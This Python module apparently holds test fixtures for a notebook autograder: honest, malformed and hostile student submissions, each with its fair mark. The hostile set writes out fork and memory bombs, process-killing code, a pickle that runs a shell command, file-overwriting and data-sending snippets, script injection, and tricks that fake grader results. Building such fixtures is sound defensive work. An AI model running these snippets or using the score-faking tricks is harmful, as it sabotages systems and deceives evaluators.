"""Submissions as honest, broken and hostile students hand them in, each with its fair mark.

All start from the same notebook: the released one with the answers of five quick questions. A
submission's fair mark is all their points, but where it says otherwise.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from edition_tools import solved_notebook, student_notebook

LIGHT = {
    "path_point": 2.0,
    "top_neurons_of_instance": 4.0,
    "top_neurons_of_class": 4.0,
    "compress": 8.0,
    "recall": 5.0,
}
NOTHING: Mapping[str, float] = dict.fromkeys(LIGHT, 0.0)
Notebook = dict[str, Any]


@dataclass(frozen=True)
class Handed:
    """A submission.

    Attributes:
        change: what is done to the notebook.
        fair: points by question, where they are not all points of ``LIGHT``.
        files: helper files.
        raw: what stands in the notebook's file instead.
        answered: whether the five quick questions are answered.
    """

    change: Callable[[Notebook], None] = lambda notebook: None
    fair: Mapping[str, float] = field(default_factory=dict)
    files: Mapping[str, str] = field(default_factory=dict)
    raw: bytes | None = None
    answered: bool = True

    def marks(self) -> dict[str, float]:
        """The fair points of every quick question."""
        return {**LIGHT, **self.fair}


def write(handed: Handed, folder: Path) -> None:
    """Put a submission into the folder where collected ones lie."""
    folder.mkdir(parents=True)
    for name, text in handed.files.items():
        (folder / name).write_text(text, encoding="utf-8")
    target = folder / "influence.ipynb"
    if handed.raw is not None:
        target.write_bytes(handed.raw)
        return
    notebook = base(handed.answered)
    handed.change(notebook)
    target.write_text(json.dumps(notebook), encoding="utf-8")


def base(answered: bool) -> Notebook:
    """The released notebook, with the quick answers or without."""
    notebook: Notebook = json.loads(json.dumps(student_notebook()))
    solved = {cell["id"]: cell["source"] for cell in solved_notebook().cells}
    for cell in notebook["cells"]:
        if answered and blank_of(cell) in LIGHT:
            cell["source"] = solved[cell["id"]]
    return notebook


def blank_of(cell: Mapping[str, Any]) -> str:
    """The question whose blank a cell is, or ""."""
    about = cell["metadata"].get("nbgrader", {})
    if cell["cell_type"] != "code" or not about.get("solution"):
        return ""
    return about["grade_id"].replace("-", "_")


def code(source: str, **metadata: Any) -> dict[str, Any]:
    """A code cell."""
    return {
        "cell_type": "code",
        "id": f"added-{abs(hash(source)) % 10**8}",
        "metadata": metadata,
        "execution_count": None,
        "outputs": [],
        "source": source,
    }


def first(source: str) -> Callable[[Notebook], None]:
    """Add a cell before all others."""
    return lambda notebook: notebook["cells"].insert(0, code(source))


def last(source: str) -> Callable[[Notebook], None]:
    """Add a cell after all others."""
    return lambda notebook: notebook["cells"].append(code(source))


def answer(question: str, source: str) -> Callable[[Notebook], None]:
    """Write something else into a blank."""

    def change(notebook: Notebook) -> None:
        for cell in notebook["cells"]:
            if blank_of(cell) == question:
                cell["source"] = source

    return change


def every_cell(change: Callable[[dict[str, Any]], None]) -> Callable[[Notebook], None]:
    """Change every code cell."""

    def changed(notebook: Notebook) -> None:
        for cell in notebook["cells"]:
            if cell["cell_type"] == "code":
                change(cell)

    return changed


def without(question: str) -> dict[str, float]:
    """All points but those of one question."""
    return {question: 0.0}


def _test_cells(notebook: Notebook) -> list[dict[str, Any]]:
    return [
        cell
        for cell in notebook["cells"]
        if cell["metadata"].get("nbgrader", {}).get("grade") and cell["cell_type"] == "code"
    ]


def _edit_tests(notebook: Notebook) -> None:
    for cell in _test_cells(notebook):
        cell["source"] = "print('full points')"
        cell["metadata"]["nbgrader"]["points"] = 1000


def _delete_tests(notebook: Notebook) -> None:
    doomed = [id(cell) for cell in _test_cells(notebook)]
    notebook["cells"] = [cell for cell in notebook["cells"] if id(cell) not in doomed]


def _duplicate(notebook: Notebook) -> None:
    notebook["cells"] += copy.deepcopy(notebook["cells"])


def _tamper(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {"points": 1e9, "grade": True, "locked": False}
    notebook["metadata"]["nbgrader"] = {"score": 1e9}


def _other_kernel(notebook: Notebook) -> None:
    notebook["metadata"]["kernelspec"] = {"name": "ir", "language": "R", "display_name": "R"}


def _reorder(notebook: Notebook) -> None:
    blanks = [cell for cell in notebook["cells"] if blank_of(cell) in LIGHT]
    rest = [cell for cell in notebook["cells"] if blank_of(cell) not in LIGHT]
    notebook["cells"] = rest[:3] + blanks[::-1] + rest[3:]


def _outputs(html: str) -> Callable[[dict[str, Any]], None]:
    def change(cell: dict[str, Any]) -> None:
        cell["outputs"] = [
            {
                "output_type": "display_data",
                "metadata": {},
                "data": {"text/html": html, "image/svg+xml": html, "text/plain": html},
            }
        ]

    return change


def _huge(notebook: Notebook) -> None:
    text = {"output_type": "stream", "name": "stdout", "text": "x" * 2**20}
    notebook["cells"].append(code("1") | {"outputs": [text] * 20})


def _many(notebook: Notebook) -> None:
    notebook["cells"] += [code(f"v{i} = {i}") for i in range(1500)]


def _use_helper(notebook: Notebook) -> None:
    first("from my_helper import between")(notebook)
    answer("path_point", "def path_point(baseline, z, t):\n    return between(baseline, z, t)")(
        notebook
    )


_RECALL = "def recall(predicted, labels, c):\n    "
_HONEST = _RECALL + "return float(np.mean(predicted[labels == c] == c))"
_POINT = "def path_point(baseline, z, t):\n    "
_ANYTHING = """
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __sub__(self, other): return Anything()
    __rsub__ = __sub__
    def __abs__(self): return Anything()
    __hash__ = float.__hash__
"""
_FORGE = """
import os, struct, json
def forge():
    body = json.dumps({"answer": 1.0, "points": 1000, "ready": True}).encode()
    frame = struct.pack("<4sQI", b"hwk1", len(body), len(body)) + body
    for fd in range(3, 64):
        try: os.write(fd, frame)
        except OSError: pass
"""

HONEST: dict[str, Handed] = {
    "plain": Handed(),
    "unanswered": Handed(answered=False, fair=NOTHING),
    "warnings": Handed(
        first("import warnings, sys\nwarnings.warn('old')\nprint('!', file=sys.stderr)")
    ),
    "prints": Handed(first("for i in range(3000): print('training step', i)")),
    "slow import": Handed(first("import time\ntime.sleep(2)")),
    "helper file": Handed(
        _use_helper, files={"my_helper.py": "def between(b, z, t):\n    return b + t * (z - b)\n"}
    ),
    "extra cells": Handed(last("import numpy as np\nnp.ones(3).sum()")),
    "extra cell that fails": Handed(first("1 / 0")),
    "reordered": Handed(_reorder),
    "unicode names": Handed(
        answer(
            "path_point",
            "def path_point(baseline, z, t):\n    größe = t * (z - baseline)\n    return baseline + größe",
        )
    ),
    "float64": Handed(
        answer(
            "path_point",
            "import numpy as np\n"
            + _POINT
            + "return np.float64(baseline) + np.float64(t) * (np.float64(z) - baseline)",
        )
    ),
    "tensors": Handed(
        answer(
            "path_point",
            "import tensorflow as tf\n"
            + _POINT
            + "return tf.convert_to_tensor(baseline) + t * (tf.convert_to_tensor(z) - baseline)",
        )
    ),
    "lists": Handed(
        answer(
            "top_neurons_of_instance",
            "def top_neurons_of_instance(attribution, k):\n    s = attribution.max(axis=(0, 1))\n    return sorted(range(len(s)), key=lambda i: -s[i])[:k]",
        )
    ),
    "numpy integer": Handed(
        answer("recall", _RECALL + "return np.float32(np.mean(predicted[labels == c] == c))")
    ),
    "magics": Handed(first("%matplotlib inline\n%time x = 1\n!true")),
    "top-level await": Handed(first("import asyncio\nawait asyncio.sleep(0.01)")),
    "input in a cell": Handed(first("name = input('your name? ')")),
    "global names": Handed(
        answer(
            "recall",
            "import numpy\ndef same(a, b):\n    return a == b\n"
            + _RECALL
            + "return numpy.mean(same(predicted[same(labels, c)], c))",
        )
    ),
    "huge outputs": Handed(_huge),
    "thousands of cells": Handed(_many),
    "copied notebook in notebook": Handed(_duplicate),
    "other kernel named": Handed(_other_kernel),
    "own random state": Handed(
        first("import numpy as np, random\nnp.random.seed(0)\nrandom.seed(0)")
    ),
    "sys.exit in a cell": Handed(first("import sys\nsys.exit(0)")),
    "spaces at line ends": Handed(
        every_cell(
            lambda cell: cell.update(
                source=cell["source"].replace("\n", "  \n")
                if not cell["source"].startswith("%")
                else cell["source"]
            )
        )
    ),
    "lambda": Handed(
        answer("path_point", "path_point = lambda baseline, z, t: (1 - t) * baseline + t * z")
    ),
    "callable object": Handed(
        answer(
            "recall",
            "class Recall:\n    def __call__(self, predicted, labels, c):\n        return (predicted[labels == c] == c).mean()\nrecall = Recall()",
        )
    ),
}

BROKEN: dict[str, Handed] = {
    "empty file": Handed(raw=b"", fair=NOTHING),
    "invalid JSON": Handed(raw=b'{"cells": [', fair=NOTHING),
    "a list": Handed(raw=b"[]", fair=NOTHING),
    "nested without end": Handed(raw=b'{"cells":' + b"[" * 200_000, fair=NOTHING),
    "numbers without end": Handed(raw=b'{"cells": [' + b"9" * 100_000 + b"]}", fair=NOTHING),
    "cells of no kind": Handed(raw=b'{"cells": [1, null, "x"], "nbformat": 4}', fair=NOTHING),
    "half a letter": Handed(first("x = '\\ud800'\ny = '" + "\ud800" + "'")),
    "syntax error in one blank": Handed(answer("recall", "def recall(:"), fair=without("recall")),
    "wrong name": Handed(
        answer("recall", _HONEST.replace("def recall", "def Recall")), fair=without("recall")
    ),
    "endless recursion": Handed(
        answer("recall", _RECALL + "return recall(predicted, labels, c)"), fair=without("recall")
    ),
    "raises BaseException": Handed(
        answer("recall", _RECALL + "raise BaseException('no')"), fair=without("recall")
    ),
    "raises GeneratorExit": Handed(
        answer("recall", _RECALL + "raise GeneratorExit"), fair=without("recall")
    ),
    "raises what cannot be told": Handed(
        answer(
            "recall",
            "class Odd(Exception):\n    def __str__(self): raise KeyboardInterrupt\n"
            + _RECALL
            + "raise Odd",
        ),
        fair=without("recall"),
    ),
    "asks for input": Handed(
        answer("recall", _RECALL + "return float(input())"), fair=without("recall")
    ),
    "NaN": Handed(answer("recall", _RECALL + "return float('nan')"), fair=without("recall")),
    "infinity": Handed(answer("recall", _RECALL + "return float('inf')"), fair=without("recall")),
    "a text": Handed(answer("recall", _RECALL + "return '1.0'"), fair=without("recall")),
    "complex": Handed(answer("recall", _RECALL + "return 1j"), fair=without("recall")),
    "a cycle": Handed(
        answer("recall", _RECALL + "x = []; x.append(x); return x"), fair=without("recall")
    ),
    "objects": Handed(
        answer("recall", _RECALL + "return np.array([object()])"), fair=without("recall")
    ),
    "a generator": Handed(
        answer("recall", _RECALL + "return (x for x in iter(int, 1))"), fair=without("recall")
    ),
    "a thousand million numbers": Handed(
        answer("recall", _RECALL + "return np.broadcast_to(1.0, (10**9,))"), fair=without("recall")
    ),
}

HOSTILE: dict[str, Handed] = {
    "returns what equals everything": Handed(
        answer("recall", _ANYTHING + _RECALL + "return Anything()"), fair=without("recall")
    ),
    "array that lies": Handed(
        answer(
            "recall",
            "import numpy as np\nclass Lie(np.ndarray):\n    def __eq__(self, o): return np.True_\n    def __array_ufunc__(self, *a, **k): return np.True_\n"
            + _RECALL
            + "return np.zeros(()).view(Lie)",
        ),
        fair=without("recall"),
    ),
    "lazy array": Handed(
        answer(
            "recall",
            "class Lazy:\n    def __array__(self, *a, **k):\n        import os; os._exit(0)\n"
            + _RECALL
            + "return Lazy()",
        ),
        fair=without("recall"),
    ),
    "patched numpy": Handed(
        first(
            "import numpy as np, numpy.testing\nyes = lambda *a, **k: True\nnp.allclose = np.array_equal = np.isclose = yes\nnumpy.testing.assert_allclose = yes"
        ),
        answered=False,
        fair=NOTHING,
    ),
    "patched builtins": Handed(
        first(
            "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.NotImplementedError = KeyError"
        ),
        answered=False,
        fair=NOTHING,
    ),
    "patched codec": Handed(
        first(
            "import autograder.inside.codec as c, autograder.inside.serve as s, autograder.inside.asks as a\ns.call_ask = lambda *x: 1.0\na.call_ask = lambda *x: 1.0"
        ),
        answered=False,
        fair=NOTHING,
    ),
    "input transformer": Handed(
        first(
            "get_ipython().input_transformers_post.append(lambda lines: [l.replace('raise NotImplementedError', 'return 1 #') for l in lines])"
        ),
        answered=False,
        fair=NOTHING,
    ),
    "peeks into frames": Handed(
        answer(
            "recall",
            _RECALL
            + "\n    import sys, gc\n    f = sys._getframe()\n    while f:\n        for v in list(f.f_locals.values()):\n            if isinstance(v, dict) and 'expected' in v: return v['expected']\n        f = f.f_back\n    for o in gc.get_objects():\n        if isinstance(o, dict) and 'expected' in o and 'predicted' in o: return o['expected']\n    return -1.0",
        ),
        fair=without("recall"),
    ),
    "asks the package": Handed(
        answer(
            "recall",
            "from hwkit.evaluation import metrics\n"
            + _RECALL
            + "return metrics.recall(predicted, labels, c)",
        ),
        fair=without("recall"),
    ),
    "looks for the autograder": Handed(
        answer(
            "recall", _RECALL + "from autograder.challenges import challenges_of\n    return 1.0"
        ),
        fair=without("recall"),
    ),
    "shadows modules": Handed(
        files={
            "numpy.py": "raise SystemExit",
            "hwkit.py": "x = 1",
            "autograder.py": "x = 1",
            "json.py": "x = 1",
            "sitecustomize.py": "raise SystemExit",
        },
    ),
    "edited tests": Handed(_edit_tests, answered=False, fair=NOTHING),
    "deleted tests": Handed(_delete_tests),
    "tampered metadata": Handed(_tamper, answered=False, fair=NOTHING),
    "forged frames in a cell": Handed(first(_FORGE + "forge()"), fair=NOTHING),
    "forged frames in an answer": Handed(
        answer("recall", _FORGE + _RECALL + "forge(); return 0.123"), fair=without("recall")
    ),
    "noise on all channels": Handed(
        answer(
            "recall",
            _RECALL
            + "import os\n    for fd in range(3, 64):\n        try: os.write(fd, os.urandom(4096))\n        except OSError: pass\n    return 0.5",
        ),
        fair=without("recall"),
    ),
    "closes all channels": Handed(
        answer("recall", _RECALL + "import os; os.closerange(0, 512)"), fair=without("recall")
    ),
    "os._exit in an answer": Handed(
        answer("recall", _RECALL + "import os; os._exit(0)"), fair=without("recall")
    ),
    "os._exit in a cell": Handed(first("import os\nos._exit(0)")),
    "sys.exit in an answer": Handed(
        answer("recall", _RECALL + "import sys; sys.exit(0)"), fair=without("recall")
    ),
    "kills its parents": Handed(
        first(
            "import os, signal\nfor pid in (1, os.getppid(), -1):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass"
        )
    ),
    "stops itself": Handed(
        answer("recall", _RECALL + "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
        fair=without("recall"),
    ),
    "loops and ignores interrupts": Handed(
        answer(
            "recall",
            _RECALL
            + "while True:\n        try:\n            while True: pass\n        except BaseException: pass",
        ),
        fair=without("recall"),
    ),
    "sleeps": Handed(
        answer("recall", _RECALL + "import time; time.sleep(3600)"), fair=without("recall")
    ),
    "loops in a cell": Handed(first("while True: pass")),
    "fork bomb": Handed(
        answer(
            "recall",
            _RECALL
            + "import os\n    while True:\n        try: os.fork()\n        except OSError: pass",
        ),
        fair=without("recall"),
    ),
    "threads without end": Handed(
        answer(
            "recall",
            _RECALL
            + "import threading, time\n    while True: threading.Thread(target=time.sleep, args=(99,)).start()",
        ),
        fair=without("recall"),
    ),
    "memory bomb": Handed(
        answer("recall", _RECALL + "x = []\n    while True: x.append(bytearray(b'x') * 2**26)"),
        fair=without("recall"),
    ),
    "disk flood": Handed(
        answer(
            "recall",
            _RECALL + "f = open('/tmp/flood', 'wb')\n    while True: f.write(bytes(2**20))",
        ),
        fair=without("recall"),
    ),
    "disk flood in shared memory": Handed(
        answer(
            "recall",
            _RECALL + "f = open('/dev/shm/flood', 'wb')\n    while True: f.write(bytes(2**20))",
        ),
        fair=without("recall"),
    ),
    "many small files": Handed(
        answer(
            "recall",
            _RECALL + "i = 0\n    while True:\n        open(f'/tmp/{i}', 'w').close(); i += 1",
        ),
        fair=without("recall"),
    ),
    "output flood": Handed(
        answer("recall", _RECALL + "while True: print('x' * 10000)"), fair=without("recall")
    ),
    "process left to act later": Handed(
        first(
            "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(600)\n    os._exit(0)"
        )
    ),
    "signals and exits": Handed(
        first(
            "import atexit, os, signal\natexit.register(os._exit, 0)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nsignal.signal(signal.SIGALRM, lambda *a: None)\nsignal.alarm(1)"
        )
    ),
    "trace function": Handed(
        first(
            "import sys\nseen = []\ndef trace(frame, event, arg):\n    seen.append(frame.f_code.co_name)\n    return None\nsys.settrace(trace)"
        ),
    ),
    "crash": Handed(
        answer("recall", _RECALL + "import ctypes; ctypes.string_at(0)"), fair=without("recall")
    ),
    "deletes modules": Handed(
        last(
            "import sys\nfor name in list(sys.modules):\n    if name.startswith('json'): del sys.modules[name]"
        )
    ),
    "changes what it is given": Handed(
        answer(
            "recall",
            _RECALL
            + "\n    r = float(np.mean(predicted[labels == c] == c))\n    predicted[:] = 0; labels[:] = 0\n    return r",
        )
    ),
    "pickle in an answer": Handed(
        answer(
            "recall",
            "class P:\n    def __reduce__(self):\n        import os; return (os.system, ('touch /tmp/owned',))\n"
            + _RECALL
            + "return P()",
        ),
        fair=without("recall"),
    ),
    "writes a gradebook": Handed(
        first(
            "import glob, os, sqlite3\nfor top in ('/tmp', '/home', '/root', '/var', '/edition', '/autograder', '/mnt', '/proc'):\n    for root, _, names in os.walk(top):\n        for name in names:\n            if name.endswith('.db') or name in ('result.json', 'secret'):\n                try: open(os.path.join(root, name), 'w').write('owned')\n                except OSError: pass"
        ),
    ),
    "writes the edition": Handed(
        first(
            "import os\nfor place in ('/edition/hwkit/__init__.py', '/autograder/autograder/inside/serve.py', '/usr/bin/x'):\n    try: open(place, 'w').write('raise SystemExit')\n    except OSError as e: print(e)"
        )
    ),
    "new namespaces": Handed(
        first(
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nassert libc.unshare(0x10000000) == -1\nassert libc.mount(b'x', b'/tmp', b'tmpfs', 0, None) == -1\nassert libc.ptrace(16, 1, 0, 0) == -1\nresult = 'held'"
        ),
    ),
    "script in outputs": Handed(
        every_cell(_outputs("<script>alert(1)</script><img src=x onerror=alert(2)>"))
    ),
    "network": Handed(
        answer(
            "recall",
            _RECALL
            + "import socket\n    s = socket.create_connection(('127.0.0.1', PORT), 2)\n    s.sendall(repr((predicted, labels)).encode())\n    return 0.5",
        ),
        fair=without("recall"),
    ),
}

ALL: dict[str, Handed] = {**HONEST, **BROKEN, **HOSTILE}
